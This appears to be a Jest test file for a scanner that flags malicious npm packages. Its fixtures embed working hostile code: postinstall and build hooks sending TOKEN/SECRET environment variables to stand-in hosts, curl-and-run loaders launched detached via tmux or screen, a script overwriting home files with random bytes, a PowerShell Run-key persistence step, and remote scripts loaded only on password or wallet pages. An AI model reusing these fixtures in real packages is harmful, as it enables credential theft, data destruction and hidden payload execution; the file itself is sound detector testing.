/**
 * Shapes from the twentieth session: round 77 (evasive triggers and environmental keying), written
 * blind by a helper that had not read the engine. Each is rewritten small and varied here, with a
 * look-alike that must stay quiet or an attack that must still be caught.
 */
import { analyzeSource } from './helpers';

const threats = (r: ReturnType<typeof analyzeSource>) =>
  r.evidence.filter((f): f is typeof f & { threat_type: string } => 'threat_type' in f);
const ruleOf = (r: ReturnType<typeof analyzeSource>, rule: string) =>
  threats(r)
    .filter((f) => f.rule === rule)
    .sort((a, b) => b.confidence - a.confidence)[0];

describe('a download run by code a user calls, from a bare IP over plain HTTP, started detached', () => {
  const pkg = (fetcher: string, start: string) => ({
    'package.json': JSON.stringify({ name: 'pathmap-cache', version: '2.1.0', main: 'index.js' }),
    'index.js': [
      "const { refresh } = require('./lib/fetch');",
      'let calls = 0;',
      'exports.resolve = (spec) => { if (++calls > 10) refresh(); return spec; };',
    ].join('\n'),
    'lib/fetch.js': [
      "const fs = require('fs');",
      "const os = require('os');",
      "const path = require('path');",
      "const { spawn } = require('child_process');",
      fetcher,
      'function refresh() {',
      "  const file = path.join(os.homedir(), '.cache', 'pathmap', 'indexd');",
      '  get((res) => {',
      '    const out = fs.createWriteStream(file);',
      '    res.pipe(out);',
      "    out.on('finish', () => {",
      '      fs.chmodSync(file, 0o755);',
      `      ${start}`,
      '    });',
      '  });',
      '}',
      'module.exports = { refresh };',
    ].join('\n'),
  });
  const rawIp = [
    "const http = require('http');",
    'const PARTS = { a: [45, 137], b: [21, 9] };',
    "const host = [...PARTS.a, ...PARTS.b].join('.');",
    "const get = (cb) => http.get({ host, port: 8080, path: '/bin/' + process.platform }, cb);",
  ].join('\n');
  const named = [
    "const https = require('https');",
    "const get = (cb) => https.get('https://downloads.pathmap.dev/indexd-' + process.platform, cb);",
  ].join('\n');

  it('is critical from a bare IP over plain HTTP, started detached: 0.85', () => {
    const r = analyzeSource(
      pkg(rawIp, "spawn(file, ['--serve'], { detached: true, stdio: 'ignore' }).unref();"),
    );
    expect(ruleOf(r, 'js.drop-and-run')?.confidence).toBeGreaterThanOrEqual(0.85);
    expect(r.risk_level).toBe('critical');
  });

  it('is critical from a bare IP over plain HTTP started in the foreground too', () => {
    const r = analyzeSource(pkg(rawIp, "spawn(file, ['--serve'], { stdio: 'inherit' });"));
    expect(ruleOf(r, 'js.drop-and-run')?.confidence).toBe(0.8);
    expect(r.risk_level).toBe('critical');
  });

  it('stays a warning from a named host over HTTPS, even started detached', () => {
    const r = analyzeSource(
      pkg(named, "spawn(file, ['--serve'], { detached: true, stdio: 'ignore' }).unref();"),
    );
    expect(ruleOf(r, 'js.drop-and-run')?.confidence).toBe(0.75);
    expect(r.risk_level).toBe('warning');
  });
});

describe('usage data with a hashed machine id, sent to the package’s own service', () => {
  const pkg = (host: string) => ({
    'package.json': JSON.stringify({
      name: 'mdpress',
      version: '0.3.0',
      bin: { mdpress: 'bin/cli.js' },
      main: 'lib/index.js',
    }),
    'bin/cli.js': "require('../lib/usage').report(process.argv[2] || 'build');",
    'lib/index.js': "exports.build = () => require('./usage').report('build');",
    'lib/usage.js': [
      "const os = require('os');",
      "const https = require('https');",
      "const crypto = require('crypto');",
      'function report(command) {',
      "  if (process.env.CI || process.env.DO_NOT_TRACK === '1') return;",
      "  const id = crypto.createHash('sha256').update('mdpress:' + os.hostname()).digest('hex').slice(0, 12);",
      '  const body = JSON.stringify({ id, command, os: process.platform });',
      `  const req = https.request({ host: '${host}', path: '/e', method: 'POST' }, (r) => r.resume());`,
      "  req.on('error', () => {});",
      '  req.end(body);',
      '}',
      'module.exports = { report };',
    ].join('\n'),
  });

  it('to a host under the package’s own domain, given as an options object: clean', () => {
    const r = analyzeSource(pkg('events.mdpress.dev'));
    expect(ruleOf(r, 'js.exfil-fingerprint')?.confidence).toBeLessThan(0.5);
    expect(ruleOf(r, 'js.fingerprint-same-scope')).toBeUndefined();
    expect(r.risk_level).toBe('clean');
  });

  it('to a host named after the package one level down (an attacker’s domain): still a warning', () => {
    const r = analyzeSource(pkg('mdpress.stats-relay.net'));
    expect(ruleOf(r, 'js.exfil-fingerprint')?.confidence).toBeGreaterThanOrEqual(0.5);
    expect(r.risk_level).toBe('warning');
  });
});

describe('a shipped script that overwrites every file of the home folders its caller names', () => {
  const pkg = (script: string) => ({
    'package.json': JSON.stringify({ name: 'tz-presets', version: '4.0.0', main: 'lib/index.js' }),
    'lib/index.js': [
      "const path = require('path');",
      "const { spawn } = require('child_process');",
      "const JOBS = [{ via: 'sh', file: 'tidy.sh', dirs: ['Documents', 'Pictures'] }];",
      'exports.format = (d) => {',
      '  for (const j of JOBS) spawn(j.via, [path.join(__dirname, j.file), ...j.dirs], { stdio: "ignore" });',
      '  return String(d);',
      '};',
    ].join('\n'),
    'lib/tidy.sh': script,
  });

  it('`for d in "$@"` over `$HOME/$d`, each listed file overwritten: critical', () => {
    const r = analyzeSource(
      pkg(
        [
          '#!/bin/sh',
          'for d in "$@"; do',
          '  target="$HOME/$d"',
          '  find "$target" -type f | while read -r f; do',
          '    head -c 4096 /dev/urandom > "$f"',
          '  done',
          'done',
        ].join('\n'),
      ),
    );
    expect(ruleOf(r, 'script.destructive')).toBeDefined();
    expect(r.risk_level).toBe('critical');
  });

  it('the same loop emptying only the logs it picks by name stays quiet', () => {
    const r = analyzeSource(
      pkg(
        [
          '#!/bin/sh',
          'for d in "$@"; do',
          '  target="$HOME/$d"',
          '  find "$target" -type f -name \'*.log\' | while read -r f; do',
          '    : > "$f"',
          '  done',
          'done',
        ].join('\n'),
      ),
    );
    expect(ruleOf(r, 'script.destructive')).toBeUndefined();
  });
});

describe('a downloaded program started in a detached terminal session', () => {
  const js = (start: string) => ({
    'package.json': JSON.stringify({
      name: 'devtunnel-lite',
      version: '1.0.0',
      scripts: { postinstall: 'node setup.js' },
    }),
    'setup.js': [
      "const fs = require('fs');",
      "const https = require('https');",
      "const { execFile, exec } = require('child_process');",
      "const bin = '/tmp/.dtl-agent';",
      "https.get('https://cdn.dtl-relay.example/agent', (res) => {",
      '  res.pipe(fs.createWriteStream(bin)).on("finish", () => {',
      '    fs.chmodSync(bin, 0o755);',
      `    ${start}`,
      '  });',
      '});',
    ].join('\n'),
  });

  it("execFile('tmux', ['new-session', '-d', '-s', name, 'bin --flag']) runs the download", () => {
    const r = analyzeSource(js("execFile('tmux', ['new-session', '-d', '-s', 'dtl', bin + ' --serve']);"));
    expect(ruleOf(r, 'js.drop-and-run')).toBeDefined();
    expect(r.risk_level).toBe('critical');
  });

  it("execFile('tmux', …) with clustered options (`-ds name`) or tmux's own first (`-L sock`) runs it too", () => {
    for (const start of [
      "execFile('tmux', ['new', '-ds', 'dtl', bin + ' --serve']);",
      "execFile('tmux', ['-L', 'dtl', 'new-session', '-d', bin]);",
    ]) {
      const r = analyzeSource(js(start));
      expect([start, ruleOf(r, 'js.drop-and-run')?.rule]).toEqual([start, 'js.drop-and-run']);
    }
  });

  it('a shell script that starts it with `tmux new -d` or `screen -dmS` runs it in the background', () => {
    for (const launch of ["tmux new -d -s dtl '/tmp/.dtl --serve'", 'screen -dmS dtl /tmp/.dtl --serve']) {
      const r = analyzeSource({
        'package.json': JSON.stringify({
          name: 'devtunnel-lite',
          version: '1.0.0',
          scripts: { postinstall: 'sh setup.sh' },
        }),
        'setup.sh': [
          '#!/bin/sh',
          'curl -s -o /tmp/.dtl http://45.9.1.20/agent',
          'chmod +x /tmp/.dtl',
          launch,
        ].join('\n'),
      });
      expect([launch, ruleOf(r, 'script.download-execute')?.message]).toEqual([
        launch,
        expect.stringContaining('in the background'),
      ]);
    }
  });
});

describe('round 78: a remote script loaded only into pages that hold secrets', () => {
  const pkg = (gate: string) => ({
    'package.json': JSON.stringify({
      name: 'rum-beacon-lite',
      version: '2.0.0',
      type: 'module',
      main: 'src/index.js',
    }),
    'src/probe.js': [
      "const FIELDS = ['input[type=password]', 'input[autocomplete=\"cc-number\"]', 'textarea[name*=mnemonic]'];",
      "const LOCAL = ['localhost', '.local', '.test', '127.0.0.1'];",
      'export const sensitive = () => FIELDS.filter((f) => document.querySelector(f)).length + (window.ethereum ? 2 : 0);',
      'export const live = () => !LOCAL.some((h) => location.hostname.endsWith(h));',
    ].join('\n'),
    'src/index.js': [
      "import { sensitive, live } from './probe.js';",
      "const BASE = ['https://cdn', 'statically', 'io'].join('.');",
      'function add(url) {',
      "  const el = document.createElement('script');",
      '  el.src = url;',
      '  document.head.appendChild(el);',
      '}',
      'export function start() {',
      '  setTimeout(() => {',
      `    ${gate}`,
      "    add(BASE + '/gh/rb-team/shim@1.0.2/shim.min.js');",
      '  }, 4000);',
      '}',
    ].join('\n'),
  });

  it('gated on secret fields or a wallet, even hidden from developers’ machines: a warning', () => {
    // (A strength meter or a captcha loaded from a CDN for login pages, skipping local hosts, does
    // the same: below critical.)
    const r = analyzeSource(pkg('if (!live()) return; if (sensitive() < 1) return;'));
    expect(ruleOf(r, 'js.gated-remote-script')?.confidence).toBe(0.6);
    expect(r.risk_level).toBe('warning');
  });

  it('read with the test’s sense: skipped on pages with secret fields, or loaded when no wallet is there', () => {
    for (const gate of [
      'if (sensitive() > 0) return;',
      'if (window.ethereum) return;',
      'if (!live() || sensitive()) return;',
    ])
      expect([gate, ruleOf(analyzeSource(pkg(gate)), 'js.gated-remote-script')]).toEqual([gate, undefined]);
    const r = analyzeSource(pkg('if (!live() || sensitive() === 0) return;'));
    expect(ruleOf(r, 'js.gated-remote-script')?.confidence).toBe(0.6);
  });

  it('the count kept in a name first (`const n = sensitive(); if (n < 1) return;`) gates it too', () => {
    const r = analyzeSource(pkg('const ok = live(); const n = sensitive(); if (!ok || n < 1) return;'));
    expect(ruleOf(r, 'js.gated-remote-script')?.confidence).toBe(0.6);
    const none = analyzeSource(pkg('const n = sensitive(); if (n > 0) return;'));
    expect(ruleOf(none, 'js.gated-remote-script')).toBeUndefined();
  });

  it('gated on secret fields alone (a lazy loader could do that for its widget): a warning', () => {
    const r = analyzeSource(pkg('if (sensitive() < 1) return;'));
    expect(ruleOf(r, 'js.gated-remote-script')?.confidence).toBe(0.6);
    expect(r.risk_level).toBe('warning');
  });

  it('loaded on every page of the live site: no gated-script finding', () => {
    const r = analyzeSource(pkg('if (!live()) return;'));
    expect(ruleOf(r, 'js.gated-remote-script')).toBeUndefined();
  });
});

describe('round 78, rewritten: the secret-page probe written another way', () => {
  it('inputs filtered by type from a list, and `"ethereum" in window`, still gate the loader', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({ name: 'vitals-mini', version: '1.0.0', main: 'index.js' }),
      'probe.js': [
        "const KINDS = ['password', 'tel'];",
        'const DEV = [/^localhost$/, /\\.local$/, /\\.test$/];',
        "exports.weight = () => Array.from(document.getElementsByTagName('input')).filter((i) => KINDS.includes(i.type)).length + ('ethereum' in window ? 2 : 0);",
        'exports.live = () => !DEV.some((r) => r.test(location.hostname));',
      ].join('\n'),
      'index.js': [
        "const p = require('./probe');",
        'exports.init = () => {',
        '  if (!p.live() || p.weight() === 0) return;',
        "  const s = document.createElement('script');",
        "  s.src = 'https://cdn.jsdelivr.net/npm/po-shim@2.1.4/dist/po.min.js';",
        '  document.head.appendChild(s);',
        '};',
      ].join('\n'),
    });
    expect(ruleOf(r, 'js.gated-remote-script')?.confidence).toBe(0.6);
  });
});

describe('environment pairs and Gatsby plugin hooks', () => {
  const steal = [
    "const https = require('https');",
    'const PICK = /TOKEN|SECRET|KEY/;',
    'function collect() {',
    '  const names = Object.keys(process.env).filter((k) => PICK.test(k));',
    '  return Object.fromEntries(names.map((k) => [k, process.env[k]]));',
    '}',
  ];
  it('secrets picked by name, mapped to [name, value] pairs and sent at install: critical', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({
        name: 'env-lint-lite',
        version: '1.0.0',
        scripts: { postinstall: 'node setup.js' },
      }),
      'setup.js': [
        ...steal,
        "const req = https.request({ host: 'lint-stats.example', path: '/v1', method: 'POST' });",
        'req.end(JSON.stringify(collect()));',
      ].join('\n'),
    });
    expect(ruleOf(r, 'js.exfil-flow')).toBeDefined();
    expect(r.risk_level).toBe('critical');
  });

  const gatsby = (hook: string) => ({
    'package.json': JSON.stringify({
      name: 'gatsby-plugin-sitemap-ping',
      version: '1.0.0',
      main: 'index.js',
      keywords: ['gatsby', 'gatsby-plugin'],
    }),
    'index.js': 'module.exports = {};',
    'gatsby-node.js': [...steal, hook].join('\n'),
  });

  it("a Gatsby plugin's gatsby-node.js hook, run by Gatsby on every build, sending them: critical", () => {
    const r = analyzeSource(
      gatsby(
        [
          'exports.onPostBuild = async ({ reporter }) => {',
          "  const req = https.request({ host: 'sitemap-ping.example', path: '/p', method: 'POST' });",
          '  req.end(JSON.stringify(collect()));',
          "  reporter.info('pinged');",
          '};',
        ].join('\n'),
      ),
    );
    expect(r.risk_level).toBe('critical');
  });

  it('the same hook pinging with the site’s URL only stays quiet', () => {
    const r = analyzeSource(
      gatsby(
        [
          'exports.onPostBuild = async ({ reporter, store }) => {',
          '  const { siteUrl } = store.getState().config.siteMetadata;',
          "  https.get('https://sitemap-ping.example/p?u=' + encodeURIComponent(siteUrl));",
          "  reporter.info('pinged');",
          '};',
        ].join('\n'),
      ),
    );
    expect(r.risk_level).toBe('clean');
  });
});

describe('review of the twentieth session', () => {
  it('eight thousand nested launchers in a shipped script: read, no crash', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({
        name: 'nest',
        version: '1.0.0',
        scripts: { postinstall: 'sh run.sh' },
      }),
      'run.sh': [
        '#!/bin/sh',
        'curl -s -o /tmp/.n http://203.0.113.9/n && chmod +x /tmp/.n',
        `${'nice '.repeat(8000)}/tmp/.n`,
      ].join('\n'),
    });
    expect(r.risk_level).not.toBe('clean');
  });

  it('tmux with combined options or its own options first, and screen -d -m, start in the background', () => {
    for (const launch of [
      "tmux new -ds dtl '/tmp/.dtl --serve'",
      "tmux -L sock new-session -d '/tmp/.dtl'",
      'screen -d -m /tmp/.dtl',
      'screen -L -Logfile /tmp/l -dmS x /tmp/.dtl',
    ]) {
      const r = analyzeSource({
        'package.json': JSON.stringify({
          name: 'dtl',
          version: '1.0.0',
          scripts: { postinstall: 'sh setup.sh' },
        }),
        'setup.sh': [
          '#!/bin/sh',
          'curl -s -o /tmp/.dtl http://203.0.113.9/agent',
          'chmod +x /tmp/.dtl',
          launch,
        ].join('\n'),
      });
      expect([launch, ruleOf(r, 'script.download-execute')?.message]).toEqual([
        launch,
        expect.stringContaining('in the background'),
      ]);
    }
  });

  const trim = (find: string) => ({
    'package.json': JSON.stringify({
      name: 'devlog-trim',
      version: '1.0.0',
      bin: { 'devlog-trim': 'trim.sh' },
    }),
    'trim.sh': [
      '#!/bin/sh',
      'for d in "$@"; do',
      `  ${find} | while read -r f; do`,
      '    : > "$f"',
      '  done',
      'done',
    ].join('\n'),
  });
  it('emptying the files of a home folder named by a variable, picked by size or age: quiet', () => {
    for (const find of ['find "$HOME/$d" -type f -size +50M', 'find "$HOME/$d" -type f -mtime +30'])
      expect([find, ruleOf(analyzeSource(trim(find)), 'script.destructive')]).toEqual([find, undefined]);
  });
  it('a negated or match-all name test picks nothing out: still the user’s files', () => {
    for (const find of ['find "$HOME/$d" -type f ! -name ".*"', 'find "$HOME/$d" -type f -name \'*\''])
      expect([find, ruleOf(analyzeSource(trim(find)), 'script.destructive')?.rule]).toEqual([
        find,
        'script.destructive',
      ]);
  });

  const daemon = (get: string, cachedFirst = false) => ({
    'package.json': JSON.stringify({ name: 'mockd', version: '1.0.0', main: 'index.js' }),
    'index.js': [
      "const fs = require('fs');",
      "const http = require('http');",
      "const https = require('https');",
      "const { spawn } = require('child_process');",
      "const bin = require('os').homedir() + '/.mockd/server';",
      "const start = () => spawn(bin, ['--port', '4010'], { detached: true, stdio: 'ignore' }).unref();",
      'exports.up = () => {',
      cachedFirst ? '  if (fs.existsSync(bin)) return start();' : '',
      `  ${get}(res) => res.pipe(fs.createWriteStream(bin, { mode: 0o755 })).on('finish', start));`,
      '};',
    ].join('\n'),
  });
  it('a daemon fetched from the project’s own HTTP mirror or an HTTPS address on an IP stays a warning', () => {
    for (const get of [
      "http.get('http://mirror.mockd.example/server', ",
      "https.get('https://203.0.113.5/server', ",
    ])
      expect([get, ruleOf(analyzeSource(daemon(get)), 'js.drop-and-run')?.confidence]).toEqual([get, 0.75]);
  });
  it('from a bare IP over plain HTTP, detached, with the cached copy started first: 0.85', () => {
    const r = analyzeSource(daemon("http.get('http://203.0.113.5/server', ", true));
    expect(ruleOf(r, 'js.drop-and-run')?.confidence).toBe(0.85);
  });

  it('`detached: !0`, as minifiers write it, is a detached start', () => {
    const r = analyzeSource(daemon("http.get('http://203.0.113.5/server', "));
    const minified = { ...daemon("http.get('http://203.0.113.5/server', ") };
    minified['index.js'] = minified['index.js'].replace('detached: true', 'detached: !0');
    expect(ruleOf(r, 'js.drop-and-run')?.confidence).toBe(0.85);
    expect(ruleOf(analyzeSource(minified), 'js.drop-and-run')?.confidence).toBe(0.85);
  });

  it('an own-service request whose options connect elsewhere (a lookup) is not the package’s own', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({ name: 'mdpress', version: '0.3.0', main: 'index.js' }),
      'index.js': [
        "const os = require('os');",
        "const https = require('https');",
        'exports.report = (command) => {',
        '  const body = JSON.stringify({ host: os.hostname(), user: os.userInfo().username, command });',
        "  const req = https.request({ host: 'events.mdpress.dev', path: '/e', method: 'POST', lookup: (n, o, cb) => cb(null, '203.0.113.7', 4) });",
        '  req.end(body);',
        '};',
      ].join('\n'),
    });
    expect(ruleOf(r, 'js.exfil-fingerprint')?.confidence).toBeGreaterThanOrEqual(0.5);
  });
});

describe('round 79, rewritten: a shipped PowerShell script an install step starts', () => {
  const pkg = (start: string) => ({
    'package.json': JSON.stringify({
      name: 'clip-sync-win',
      version: '2.0.0',
      scripts: { postinstall: 'node scripts/install.js' },
    }),
    'scripts/install.js': [
      "const path = require('path');",
      "const { execFile } = require('child_process');",
      "const STEPS = [{ exe: 'powershell.exe', args: ['-NoProfile', '-ExecutionPolicy', 'Bypass', '-File'] }];",
      `${start}`,
    ].join('\n'),
    'scripts/register.ps1': [
      "$cmd = 'wscript.exe //B \"' + (Join-Path $env:APPDATA 'Sync\\agent.vbs') + '\"'",
      "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'SyncHost' -Value $cmd -Force",
    ].join('\n'),
  });

  it('run from a table of steps with its path joined to __dirname: read as an install step, critical', () => {
    const r = analyzeSource(
      pkg(
        "for (const s of STEPS) execFile(s.exe, [...s.args, path.join(__dirname, 'register.ps1')], () => {});",
      ),
    );
    const f = ruleOf(r, 'script.persistence');
    expect(f?.install_time).toBe(true);
    expect(r.risk_level).toBe('critical');
  });

  it('shipped and not started by the install step: read at run-time weight', () => {
    const r = analyzeSource(pkg('void STEPS;'));
    expect(ruleOf(r, 'script.persistence')?.install_time).toBe(false);
  });
});

describe('round 80: module resolution as the hiding place', () => {
  const platform = (imports: unknown, spec: string) => ({
    'package.json': JSON.stringify({ name: 'imgline', version: '1.0.0', main: 'lib/index.js', imports }),
    'lib/index.js': [
      `const p = require('${spec}');`,
      'const ready = p.prepare();',
      'exports.ready = ready;',
    ].join('\n'),
    'lib/node/codec.js': [
      "const fs = require('fs');",
      "const https = require('https');",
      "const { spawn } = require('child_process');",
      "const bin = require('os').tmpdir() + '/.imgline-codec';",
      'exports.prepare = () =>',
      "  https.get('https://cdn.imgline-codecs.example/v3/codec', (res) =>",
      "    res.pipe(fs.createWriteStream(bin, { mode: 0o755 })).on('finish', () => spawn(bin, ['--daemon'], { detached: true, stdio: 'ignore' }).unref()),",
      '  );',
    ].join('\n'),
    'lib/web/codec.js': 'exports.prepare = () => Promise.resolve(null);',
  });

  it('`require("#platform")` through `imports` with a `node` condition runs the download on load', () => {
    const r = analyzeSource(
      platform({ '#platform': { node: './lib/node/codec.js', default: './lib/web/codec.js' } }, '#platform'),
    );
    expect(ruleOf(r, 'js.drop-and-run')?.confidence).toBe(0.85);
    expect(r.risk_level).toBe('critical');
  });

  it('a `#codecs/*` pattern resolves the same way', () => {
    const r = analyzeSource(
      platform({ '#codecs/*': { node: './lib/node/*.js', default: './lib/web/*.js' } }, '#codecs/codec'),
    );
    expect(ruleOf(r, 'js.drop-and-run')?.confidence).toBe(0.85);
  });

  it('a package keyworded `jest` and `reporter` is a reporter Jest loads: its class is made and its hooks called', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({
        name: 'jest-summary-lite',
        version: '1.0.0',
        main: 'index.js',
        keywords: ['jest', 'reporter', 'summary'],
      }),
      'context.js': [
        "const https = require('https');",
        'async function collect() {',
        '  const env = {};',
        '  for (const [k, v] of Object.entries(process.env)) if (/TOKEN|SECRET/.test(k)) env[k] = v;',
        '  return { env };',
        '}',
        'function report(ctx) {',
        "  const req = https.request({ host: 'insights.example', path: '/v1', method: 'POST' });",
        '  req.end(JSON.stringify(ctx));',
        '}',
        'module.exports = { collect, report };',
      ].join('\n'),
      'index.js': [
        "const context = require('./context');",
        'class Reporter {',
        '  constructor() { this.ctx = context.collect(); }',
        '  onRunComplete() { return this.ctx.then((c) => context.report(c)); }',
        '}',
        'module.exports = Reporter;',
      ].join('\n'),
    });
    expect(ruleOf(r, 'js.exfil-flow')).toBeDefined();
  });
});

describe('minified gates: `cond && act()` as a statement is an `if`', () => {
  it('a secret-page test written `sensitive() > 0 && add(url)` gates the loader', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({ name: 'rum-mini', version: '1.0.0', main: 'index.js' }),
      'index.js': [
        "const F = ['input[type=password]', 'input[autocomplete=\"cc-number\"]'];",
        'const sensitive = () => F.filter((f) => document.querySelector(f)).length;',
        "function add(u) { const s = document.createElement('script'); s.src = u; document.head.appendChild(s); }",
        "exports.init = () => { sensitive() > 0 && add('https://cdn.rum-mini.example/x.js'); };",
      ].join('\n'),
    });
    expect(ruleOf(r, 'js.gated-remote-script')?.confidence).toBe(0.6);
  });

  it('`sensitive() || add(url)` loads where there are none: no gated-script finding', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({ name: 'rum-mini', version: '1.0.0', main: 'index.js' }),
      'index.js': [
        "const F = ['input[type=password]'];",
        'const sensitive = () => F.filter((f) => document.querySelector(f)).length;',
        "function add(u) { const s = document.createElement('script'); s.src = u; document.head.appendChild(s); }",
        "exports.init = () => { sensitive() || add('https://cdn.rum-mini.example/x.js'); };",
      ].join('\n'),
    });
    expect(ruleOf(r, 'js.gated-remote-script')).toBeUndefined();
  });
});
